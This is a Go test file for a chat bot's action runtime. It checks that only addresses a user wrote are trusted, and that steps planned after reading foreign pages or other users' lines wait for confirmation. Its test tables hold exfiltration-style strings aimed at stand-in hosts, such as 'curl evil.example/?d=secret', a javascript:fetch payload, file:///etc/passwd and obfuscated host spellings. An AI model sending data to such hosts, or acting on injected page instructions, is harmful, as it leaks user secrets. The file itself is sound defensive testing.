package action

import (
	"context"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"synthbot/core"
	"synthbot/core/schema"
)

// TestAddresses: an address counts as written by a user only if host, path and query are the same.
func TestAddresses(t *testing.T) {
	var r Provenance
	r.AddWords("Compare https://Example.org/a?x=1#top, (www.blog.example/Käse) and <http://10.0.0.5:8080/>. " +
		"Call me at 12:30, file:///etc/passwd or ftp://[::1/x https://en.example/wiki/Foo_(bar) " +
		"Or write to Jay <jay@mail.example>: that is at [2001:db8::1]:80/x.")
	known := len(r.Addresses)
	if r.AddWords("again: https://example.org/a?x=1"); len(r.Addresses) != known {
		t.Errorf("unexpected known addresses %q", r.Addresses)
	}
	if r.knowsAddresses(map[string]any{"list": []any{"https://evil.example/x", "https://example.org/a?x=1"}}, false) {
		t.Error("an unknown address counts as known")
	}
	for address, known := range map[string]bool{
		"https://example.org/a?x=1":                 true,
		"http://example.org/a?x=1#bottom":           true,
		"example.org/a?x=1":                         true,
		"https://blog.example/K%C3%A4se":            true,
		"http://10.0.0.5:8080":                      true,
		"jay@mail.example":                          true,
		"[2001:db8::1]:80/x":                        true,
		"eve@mail.example":                          false,
		"https://mail.example":                      false,
		"https://example.org/a":                     false,
		"https://example.org/a?x=2":                 false,
		"https://example.org/a?x=1&y=2":             false,
		"https://example.org/a/secret":              false,
		"https://example.org":                       false,
		"https://secret.example.org/a":              false,
		"https://me:pw@example.org/a?x=1":           false,
		"https://example.org:8443/a?x=1":            false,
		"https://evil.example/?q=example.org/a?x=1": false,
		" https://example.org/a?x=1 ":               true,
		"https://en.example/wiki/Foo_(bar)":         true,
		"https://exa mple.org/%zz":                  false,
		"http://example.org:x/":                     false,
		"https:///etc/passwd":                       false, // it is file: that was written
		"file:///etc/passwd":                        true,
		"ftp://[::1/x":                              true, // invalid, but written the same
	} {
		if got := r.knowsAddresses(map[string]any{"url": address}, false); got != known {
			t.Errorf("%s: got %v, want %v; known: %q", address, got, known, r.Addresses)
		}
	}
}

// TestAddressesInPayloads: addresses are found anywhere in a payload.
func TestAddressesInPayloads(t *testing.T) {
	for payload, free := range map[string]bool{
		`{}`:                                             true,
		`{"url":""}`:                                     true,
		`{"file":"notes.md","text":"e.g. this"}`:         true,
		`{"address":"12 Main Street"}`:                   true,
		`{"url":"localhost"}`:                            false,
		`{"URI":"evil"}`:                                 false,
		`{"server_host":"evil.example"}`:                 false,
		`{"page_link":"//evil.example/x"}`:               false,
		`{"text":"see HTTPS://evil.example/x"}`:          false,
		`{"list":[{"deep":["a","ftp://evil.example"]}]}`: false,
		`{"https://evil.example/x":1}`:                   false,
	} {
		var r Provenance
		v, err := schema.Decode(json.RawMessage(payload))
		if err != nil {
			t.Fatal(err)
		}
		if got := r.knowsAddresses(v.(map[string]any), false); got != free {
			t.Errorf("%s: got %v, want %v", payload, got, free)
		}
	}
}

// TestAddressesForOtherPrograms: external tools may take addresses under any key.
func TestAddressesForOtherPrograms(t *testing.T) {
	r := Provenance{Strangers: true}
	r.AddWords("Write to ann@mail.example what good.example/a says, and see notes.md")
	for text, free := range map[string]bool{
		"good.example/a":                      true,
		"ann@mail.example":                    true,
		"Ann <ann@mail.example>, please":      true,
		"notes.md":                            true,
		"in docs/notes of Ann, e.g. today":    true,
		"at 12:30, 1.5 miles; and/or 3@once":  true,
		"evil.example":                        false,
		" evil.example/?d=secret":             false,
		"//evil.example":                      false,
		"10.0.0.5:8080":                       false,
		"[2001:db8::1]/?d=secret":             false,
		"curl evil.example/?d=secret":         false,
		"mallory@evil.example":                false,
		"Ann <ann@mail.example>, m@evil.test": false,
		"mailto:mallory@evil.example":         false,
		"git@evil.example:me/repo":            false,
		"evil。example/x":                      false, // a full stop in IDNA
		"evil．example/x":                      false,
		"evil｡example":                        false,
		"evil%2Eexample/x 100%":               false,
		"evil%E3%80%82example/x":              false,
		"https%3A%2F%2Fevil.example%2Fx":      false,
		`\\evil.example\x`:                    false,
		"(evil.example)":                      false,
		"\u201eevil.example\u201c!":           false,
		"evil.\u00adexample/x":                false,
		"i❤.test/x":                           false,
		"उदाहरण.परीक्षा/x":                    false,
		"localhost:9000":                      false,
		"localhost/x":                         false,
		"curl localhost:9000":                 false,
		"data:text/html,secret":               false,
		"javascript:fetch( '//evil.example')": false,
		"see javascript:fetch('evil')":        false,
		"mailto:ann@mail.example":             true,
		"(good.example/a)":                    true,
		"docs/notes":                          true,
		"2026-11-23T07:00:00Z":                true,
		`C:\Users\ann`:                        true,
		"see evil.example and leak to it":     false,
		"ask good.example/a,evil.example, ok": false,
		"good.example/a, ann@mail.example":    true,
		"ping 10.0.0.5 now":                   false,
		"is localhost up?":                    false,
		"curl http://evil":                    false,
		"get evil:9000/x":                     false,
		"issue:4711":                          true,
		"see issue:4711, v1.2.3 and 12:30/45": true,
	} {
		for _, key := range []string{"target", "source", "to", "query", "text"} {
			if got := r.knowsAddresses(map[string]any{key: []any{text}}, true); got != free {
				t.Errorf("%s: %q: got %v, want %v", key, text, got, free)
			}
		}
	}
}

// TestHostsForOtherPrograms: under a key for hosts, a single word is a host.
func TestHostsForOtherPrograms(t *testing.T) {
	var r Provenance
	r.AddWords("Ask good:9000 about that")
	for payload, free := range map[string]bool{
		`{"host":"evil"}`:             false,
		`{"server_host":"evil"}`:      false,
		`{"webhook":"evil:9000"}`:     false,
		`{"url":"good:9000"}`:         true,
		`{"url":"http://good:9000/"}`: true,
		`{"host":""}`:                 true,
		`{"link":"the last one"}`:     true,
		`{"page":"Main"}`:             true,
	} {
		v, _ := schema.Decode(json.RawMessage(payload))
		if got := r.knowsAddresses(v.(map[string]any), true); got != free {
			t.Errorf("%s: got %v, want %v", payload, got, free)
		}
	}
}

// TestAddressesInOtherForms: an address may be used in the form in which a user wrote it. Another
// form that only folds to it is another address.
func TestAddressesInOtherForms(t *testing.T) {
	for _, address := range []string{
		"good。example/x", "good%2Eexample/x", `\\good.example\x`, "(good.example)", "localhost:9000", "localhost/x",
		"data:text/html,a", "javascript:go('x')", "https://good.example/a%23b%20c?d=%26%20e", "issue:4711",
	} {
		var r Provenance
		r.AddWords("Use " + address + " please")
		if !r.knowsAddresses(map[string]any{"text": address}, true) {
			t.Errorf("%s: unexpected known addresses %q", address, r.Addresses)
		}
	}
	r := Provenance{}
	r.AddWords("https://good.example/x")
	for _, address := range []string{"https://good.example/x%23secret", "https://good.example/x＃secret", "good.example/ｘ"} {
		if r.knowsAddresses(map[string]any{"text": address}, true) {
			t.Errorf("%s counts as written", address)
		}
	}
}

// TestReadingOutputs: the output of a step counts as foreign text in later rounds, even if the step
// failed.
func TestReadingOutputs(t *testing.T) {
	w := &world{}
	has := func(e core.Effect) func(*core.Action) { return func(a *core.Action) { a.Effects = e } }
	s := w.catalogue(t,
		w.act("page", has(core.EffectReadsForeign)), w.act("recall", has(core.EffectReadsChat)),
		w.act("seek", has(core.EffectReadsForeign|core.EffectFinds)), w.act("silent", has(0)), w.act("dice"),
	)
	out := json.RawMessage(`{"results":[{"url":"https://found.example/1","text":"https://evil.example"}]}`)
	known := []string{"found.example/1"}
	for _, tc := range []struct {
		action   string
		progress core.Progress
		private  bool
		want     Provenance
	}{
		{"page", core.ProgressDone, true, Provenance{Strangers: true}},
		{"page", core.ProgressFailed, true, Provenance{Strangers: true}},
		{"page", core.ProgressUnknown, true, Provenance{Strangers: true}},
		{"page", core.ProgressSkipped, true, Provenance{}},
		{"page", core.ProgressPending, true, Provenance{}},
		{"recall", core.ProgressDone, true, Provenance{}},
		{"recall", core.ProgressDone, false, Provenance{Others: true}},
		{"seek", core.ProgressDone, false, Provenance{Strangers: true, Addresses: known}},
		{"silent", core.ProgressDone, false, Provenance{Strangers: true, Others: true}},
		{"dice", core.ProgressDone, false, Provenance{}},
		{"gone", core.ProgressDone, false, Provenance{}},
	} {
		var r Provenance
		r.AddOutput(s, StepResult{Action: tc.action, Progress: tc.progress, Output: out}, tc.private)
		known := slices.Equal(r.Addresses, tc.want.Addresses)
		if r.Strangers != tc.want.Strangers || r.Others != tc.want.Others || !known {
			t.Errorf("%s %s, private %v: got %+v, want %+v", tc.action, tc.progress, tc.private, r, tc.want)
		}
	}
	r := Provenance{}
	r.AddLine(core.RankAdmin)
	r.AddLine(core.RankModerator)
	r.AddLine(core.RankAdmin)
	if !r.Others || r.Rank != core.RankModerator {
		t.Errorf("got %+v, want the lowest rank", r)
	}
}

// TestReadingRestricts: which steps need a confirmation, depending on the foreign text that was
// read.
func TestReadingRestricts(t *testing.T) {
	with := func(e core.Effect, p core.Permission) func(*core.Action) {
		return func(a *core.Action) { a.Effects, a.Permission = e, p }
	}
	addressed := func(e core.Effect) func(*core.Action) {
		return func(a *core.Action) {
			a.Effects, a.Permission = e, core.PermissionEveryone
			a.Schema = json.RawMessage(`{"type":"object","properties":{"url":{"type":"string","default":"https://a.example"}}}`)
		}
	}
	page := Provenance{Strangers: true}
	line := Provenance{Others: true}
	for _, tc := range []struct {
		name   string
		read   Provenance
		rank   core.Rank
		change func(*core.Action)
		asked  bool
	}{
		{"undeclared", page, core.RankMember, with(0, core.PermissionEveryone), true},
		{"undeclared, untouched", Provenance{}, core.RankAdmin, with(0, core.PermissionAdmins), false},
		{"harmless", page, core.RankAdmin, with(core.EffectNone, core.PermissionEveryone), false},
		{"for moderators", page, core.RankModerator, with(core.EffectNone, core.PermissionModerators), true},
		{"does more for ranks", page, core.RankModerator, with(core.EffectRanked, core.PermissionEveryone), true},
		{"does more for ranks, a member", page, core.RankMember, with(core.EffectRanked, core.PermissionEveryone), false},
		{"rewrites messages, a line", line, core.RankModerator, with(core.EffectRewrites, core.PermissionEveryone), true},
		{"rewrites messages, a member, a line", line, core.RankMember, with(core.EffectRewrites, core.PermissionEveryone), false},
		{"does more for ranks, a line", line, core.RankModerator, with(core.EffectRanked, core.PermissionEveryone), true},
		{"does more for ranks, a member, a line", line, core.RankMember, with(core.EffectRanked, core.PermissionEveryone), false},
		{"deletes", page, core.RankMember, with(core.EffectChanges, core.PermissionEveryone), true},
		{"deletes, a line", line, core.RankMember, with(core.EffectChanges, core.PermissionEveryone), true},
		{"deletes, a moderator's line", Provenance{Others: true, Rank: core.RankModerator}, core.RankMember, with(core.EffectChanges, core.PermissionEveryone), false},
		{"reads, a line", line, core.RankAdmin, with(core.EffectReadsForeign|core.EffectRequests, core.PermissionEveryone), false},
		{"requests, nobody's address", page, core.RankMember, addressed(core.EffectRequests), true},
		{"requests, somebody's address", Provenance{Strangers: true, Addresses: []string{"a.example"}}, core.RankMember, addressed(core.EffectRequests), false},
		{"requests, after a line", line, core.RankAdmin, addressed(core.EffectRequests), false},
		{"has an address", page, core.RankAdmin, addressed(core.EffectNone), false},
		{"for beats", page, core.RankBot, with(core.EffectNone, core.PermissionBot), false},
		{"for beats, a line", line, core.RankBot, with(core.EffectNone, core.PermissionBot), false},
		{"for admins, a moderator's line", Provenance{Others: true, Rank: core.RankModerator}, core.RankAdmin, with(core.EffectNone, core.PermissionAdmins), true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := &world{}
			s := w.catalogue(t, w.act("it", tc.change))
			plan, faults := s.Check(core.Plan{Steps: []core.Step{step("it", `{}`)}}, by(tc.rank))
			if len(faults) > 0 {
				t.Fatal(faults)
			}
			j := newJournal().job(s, by(tc.rank), plan.Steps...)
			j.Read = tc.read
			done := run(t, NewRuntime(Options{}), j)
			want := core.ProgressDone
			if tc.asked {
				want = core.ProgressPending
			}
			if done[0].Progress != want {
				t.Errorf("unexpected outcome %q", describe(done))
			}
			if h := done[0].Held; h != nil && !strings.HasPrefix(h.Question, "This was planned after reading ") {
				t.Errorf("the question does not mention the reading: %q", h.Question)
			}
		})
	}
}

// TestReadingOfNobody: a step that needs a confirmation is skipped if there is no single user to
// ask.
func TestReadingOfNobody(t *testing.T) {
	w := &world{}
	s := w.catalogue(t, w.act("it", func(a *core.Action) { a.Effects = core.EffectChanges }))
	for name, who := range map[string]Requester{"several": by(core.RankAdmin, core.RankAdmin), "a beat": by(core.RankBot)} {
		j := newJournal().job(s, who, step("it", `{}`))
		j.Read = Provenance{Strangers: true}
		if done := run(t, NewRuntime(Options{}), j); done[0].Progress != core.ProgressSkipped {
			t.Errorf("%s: got %q, want it skipped", name, describe(done))
		}
	}
}

// TestReadingOfConsequences: a step that the result of a foreign page asks for needs a
// confirmation.
func TestReadingOfConsequences(t *testing.T) {
	w := &world{}
	erase := w.act("erase", func(a *core.Action) { a.Effects = core.EffectChanges })
	page := w.act("page", func(a *core.Action) {
		a.Effects = core.EffectReadsForeign
		a.Do = func(context.Context, core.Call) (core.Result, error) {
			return core.Result{Next: []core.Step{step("erase", `{}`)}}, nil
		}
	})
	s := w.catalogue(t, erase, page)
	done := run(t, NewRuntime(Options{}), newJournal().job(s, by(core.RankMember), step("page", `{}`)))
	if len(done) != 2 || done[1].Progress != core.ProgressPending {
		t.Errorf("unexpected outcome %q", describe(done))
	}
}

// TestReadingAfterResume: a step that depends on a confirmed one still needs a confirmation because
// of the foreign text.
func TestReadingAfterResume(t *testing.T) {
	w := &world{}
	s := w.catalogue(t, w.act("erase", func(a *core.Action) { a.Effects, a.DependsOn = core.EffectChanges, []string{"transfer"} }))
	journal := newJournal()
	j := journal.job(s, by(core.RankMember), step("transfer", `{}`), step("erase", `{}`))
	j.Read = Provenance{Strangers: true}
	r := NewRuntime(Options{})
	run(t, r, j)
	done, err := r.Resume(t.Context(), Job{Snapshot: s, Turn: j.Turn, Round: 1, Journal: journal.crash()}, 1, yes)
	if err != nil {
		t.Fatal(err)
	}
	wantLines(t, "resumed", describe(done), []string{"1 transfer done", "2 erase pending"})
}

func BenchmarkAddWords(b *testing.B) {
	line := strings.Repeat("We went up the hill, and saw the sea from there. ", 80)
	b.SetBytes(int64(len(line)))
	b.ReportAllocs()
	for b.Loop() {
		var r Provenance
		r.AddWords(line)
	}
}
